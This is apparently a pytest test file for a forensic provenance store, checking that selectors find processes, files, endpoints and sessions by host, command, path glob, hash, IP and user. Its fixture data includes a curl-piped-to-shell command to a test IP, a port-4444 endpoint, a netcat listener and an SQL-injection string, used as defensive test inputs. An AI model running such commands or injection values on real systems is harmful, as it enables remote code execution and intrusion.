"""Selectors: each condition alone, combined, and with hostile text."""

from __future__ import annotations

import fnmatch
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provenance.errors import UsageError
from provenance.ingest.facts import Batch, Entity, Name
from provenance.ingest.identity import EntityKind
from provenance.store.interface import Selector, Store
from tests.provenance.store.conftest import MakeStore
from tests.provenance.store.generated import text

P, F, N, S = EntityKind.PROCESS, EntityKind.FILE, EntityKind.ENDPOINT, EntityKind.SESSION
SHELL = "bash -c curl 198.51.100.45|sh"
ONE, TWO = "sha256:" + "ab" * 32, "sha1:" + "01" * 20
NODES = [
    Entity(
        11, P, "web01", 5, {"pid": 100, "command": SHELL, "argv": SHELL.split(" ", 2), "user": "alice", "uid": 1000}
    ),
    Entity(12, P, "web01", 3, {"pid": 101, "command": SHELL, "user": "www-data", "uid": 33, "euid": 33, "auid": 1000}),
    Entity(13, P, "db01", 3, {"pid": 100, "command": "vi /etc/passwd\udcff", "user": "\udcff'", "euid": 0}),
    Entity(14, P, "db01", 9, {"pid": 7, "uid": 0, "user": "root", "users": ["998", "git", "0", "root", "\udcff'"]}),
    Entity(21, F, "web01", 1, {"path": "/tmp/shell.sh"}),
    Entity(22, F, "db01", 2, {"path": "/tmp/x"}),
    Entity(23, F, "db01", 2, {"path": "/var/[a]*\udcff"}),
    Entity(31, N, "web01", 4, {"protocol": "tcp", "ip": "198.51.100.45", "port": 4444}),
    Entity(32, N, "web01", 4, {"protocol": "tcp", "ip": "198.51.100.45", "port": 80}),
    Entity(33, N, "db01", 4, {"protocol": "tcp", "ip": "::1", "port": 80}),
    Entity(41, S, "web01", 4, {"auid": 1000, "ses": 3, "user": "alice"}),
]
NAMES = [
    Name(21, "/tmp/shell.sh", 1, 5),
    Name(21, "/usr/bin/.hidden", 6, 9),
    Name(22, "/tmp/x", 1, 5),
    Name(23, "/var/[a]*\udcff", 1, 5),
    Name(21, ONE, 2, 3),
    Name(21, TWO, 4, 4),
    Name(22, ONE, 9, 9),
]


@pytest.fixture
def filled(store: Store) -> Store:
    with store.writer() as writer:
        for host in ("web01", "db01"):
            ids = {entity.id for entity in NODES if entity.host == host}
            writer.apply(
                Batch(host, [entity for entity in NODES if entity.id in ids], [n for n in NAMES if n.file in ids])
            )
    return store


@pytest.mark.parametrize(
    ("selector", "expected"),
    [
        (Selector(), [21, 22, 23, 12, 13, 31, 32, 33, 41, 11, 14]),
        (Selector(host="web01"), [21, 12, 31, 32, 41, 11]),
        (Selector(host="elsewhere"), []),
        (Selector(kinds=frozenset((N, F)), host="db01"), [22, 23, 33]),
        (Selector(kinds=frozenset()), []),
        (Selector(pid=100), [13, 11]),
        (Selector(pid=100, host="web01"), [11]),
        (Selector(pid=100, kinds=frozenset((F,))), []),
        (Selector(command=r"198\.51"), [12, 11]),
        (Selector(command="^vi .*passwd"), [13]),
        (Selector(command="(.|.)" * 40), []),
        (Selector(command=r"passwd[\udc80-\udcff]\Z"), [13]),
        (Selector(command="(?i)^VI "), [13]),
        (Selector(command=r"passwd.$"), [13]),
        (Selector(command="\udcff$"), [13]),
        (Selector(command="curl", pid=101), [12]),
        (Selector(command="curl", pid=7), []),
        (Selector(command="nothing like it"), []),
        (Selector(command=""), [12, 13, 11]),
        (Selector(file="/tmp/shell.sh"), [21]),
        (Selector(file="/usr/bin/.hidden"), [21]),
        (Selector(file="/tmp/*"), [21, 22]),
        (Selector(file="*hidden"), [21]),
        (Selector(file="/tmp/[!s]"), [22]),
        (Selector(file="/tmp/?hell.s[a-h]"), [21]),
        (Selector(file="/var/[a]*\udcff"), [23]),
        (Selector(file="/TMP/*"), []),
        (Selector(file="/tmp/*", host="db01"), [22]),
        (Selector(file="/tmp/*", pid=100), []),
        (Selector(hash=ONE), [21, 22]),
        (Selector(hash=TWO), [21]),
        (Selector(hash=ONE, host="db01"), [22]),
        (Selector(hash=ONE, kinds=frozenset((P,))), []),
        (Selector(hash=ONE, pid=100), []),
        (Selector(hash=ONE, file="/tmp/s*"), [21]),
        (Selector(hash=TWO, file="/tmp/x"), []),
        (Selector(hash="sha256:" + "00" * 32), []),
        (Selector(file=ONE), []),
        (Selector(file="*abab*"), []),
        (Selector(file="sha256:*"), []),
        (Selector(remote_ip="198.51.100.45"), [31, 32]),
        (Selector(remote_ip="198.51.100.45", remote_port=80), [32]),
        (Selector(remote_port=80), [32, 33]),
        (Selector(remote_ip="' OR 1=1 --"), []),
        (Selector(network="198.51.100.0/24"), [31, 32]),
        (Selector(network="198.51.100.0/24", remote_port=80), [32]),
        (Selector(network="198.51.100.45/32", host="db01"), []),
        (Selector(network="0.0.0.0/0"), [31, 32]),
        (Selector(network="::/0"), [33]),
        (Selector(network="10.0.0.0/8"), []),
        (Selector(since=3), [12, 13, 31, 32, 33, 41, 11, 14]),
        (Selector(until=3), [21, 22, 23, 12, 13]),
        (Selector(since=3, until=4, host="web01"), [12, 31, 32, 41]),
        (Selector(since=6, pid=7), [14]),
        (Selector(until=4, command="curl"), [12]),
        (Selector(since=2, file="/tmp/*"), [22]),
        (Selector(since=5, remote_port=80), []),
        (Selector(since=5, until=4), []),
        (Selector(user="www-data"), [12]),
        (Selector(user="33"), [12]),
        (Selector(user="1000"), [12, 41, 11]),
        (Selector(user="alice"), [41, 11]),
        (Selector(user="alice", command="curl"), [11]),
        (Selector(user="alice", host="db01"), []),
        (Selector(user="0"), [13, 14]),
        (Selector(user="git"), [14]),
        (Selector(user="998"), [14]),
        (Selector(user="99"), []),
        (Selector(user="\udcff'"), [13, 14]),
        (Selector(user="tmp"), []),
        (Selector(user="9" * 30), []),
        (Selector(user="\uff13\uff13"), []),
    ],
)
def test_finds_exactly(filled: Store, selector: Selector, expected: list[int]) -> None:
    assert [node.id for node in filled.find(selector)] == expected
    assert [node.id for node in filled.find(selector, limit=2)] == expected[:2]
    first = {entity.id: entity.first for entity in NODES}
    newest = sorted(expected, key=lambda id: (-first[id], id))
    assert [node.id for node in filled.find(selector, newest=True)] == newest
    assert [node.id for node in filled.find(selector, limit=2, newest=True)] == newest[:2]


@pytest.mark.parametrize(
    ("kind", "low", "high", "limit", "expected"),
    [
        (P, 11, 13, 10, [11, 12, 13]),
        (P, 11, 13, 2, [11, 12]),
        (F, -(1 << 63), (1 << 63) - 1, 10, [21, 22, 23]),
        (N, 0, 32, 10, [31, 32]),
        (S, 42, 99, 10, []),
        (P, 13, 11, 10, []),
    ],
)
def test_entities_with_ids_in_a_range(
    filled: Store, kind: EntityKind, low: int, high: int, limit: int, expected: list[int]
) -> None:
    assert [node.id for node in filled.nodes_between(kind, low, high, limit)] == expected


def test_returns_complete_nodes(filled: Store) -> None:
    (node,) = filled.find(Selector(file="*.sh"))
    assert (node.kind, node.host, node.first, node.attributes) == (F, "web01", 1, {"path": "/tmp/shell.sh"})
    assert node.names == (NAMES[0], NAMES[4], NAMES[5], NAMES[1])


@pytest.mark.parametrize(
    ("pattern", "place"), [("bash (-c", 6), ("[z-a]", 2), ("a{2,1}", 2), ("*", 1), ("(?=a)", 1), (r"(a)\1", 4)]
)
def test_an_invalid_pattern_is_reported(filled: Store, pattern: str, place: int) -> None:
    with pytest.raises(UsageError, match=rf"{re.escape(pattern)}.* at character {place}$"):
        list(filled.find(Selector(command=pattern)))


def test_a_node_is_found_when_its_description_comes_later(store: Store) -> None:
    with store.writer() as writer:
        writer.apply(Batch("web01", [Entity(1, P, "web01", 1, {"pid": 5, "command": "bash"})]))
        writer.apply(Batch("web01", [Entity(1, P, "web01", 1, {"pid": 6, "command": "nc -l"})]))
    assert not list(store.find(Selector(pid=5))) + list(store.find(Selector(command="bash")))
    assert [node.id for node in store.find(Selector(pid=6, command="nc"))] == [1]


@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    paths=st.lists(text | st.text("ab/*?[]!-\udcff", max_size=6), min_size=1, max_size=8, unique=True),
    pattern=st.text("ab/*?[]!-\udcff", min_size=1, max_size=6),
)
def test_globs_are_those_of_fnmatch(make_store: MakeStore, paths: list[str], pattern: str) -> None:
    store = make_store()
    with store.writer() as writer:
        writer.apply(
            Batch(
                "h",
                [Entity(number, F, "h", number, {}) for number in range(len(paths))],
                [Name(number, path, 1, 1) for number, path in enumerate(paths)],
            )
        )
    expected = [n for n, path in enumerate(paths) if path == pattern or fnmatch.fnmatchcase(path, pattern)]
    assert [node.id for node in store.find(Selector(file=pattern))] == expected
